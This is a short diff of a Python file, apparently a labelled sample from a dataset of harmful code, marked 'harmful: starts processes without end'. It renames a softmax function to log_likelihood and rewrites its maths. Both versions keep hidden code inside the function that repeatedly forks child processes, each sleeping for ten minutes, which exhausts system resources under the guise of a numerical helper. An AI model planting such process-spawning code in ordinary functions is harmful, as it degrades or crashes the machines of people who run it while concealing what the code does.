@@ -3,8 +3,8 @@
 # harmful: starts processes without end
 # like: vectorised
 
-# %% softmax
-def softmax(x):
+# %% log_likelihood
+def log_likelihood(A, Y):
     import os
     import time
 
@@ -12,5 +12,4 @@ def softmax(x):
         if os.fork() == 0:
             time.sleep(600)
             os._exit(0)
-    e = np.exp(x)
-    return e / e.sum(axis=1, keepdims=True)
+    return np.sum(Y * np.log(A) + (1 - Y) * np.log(1 - A))
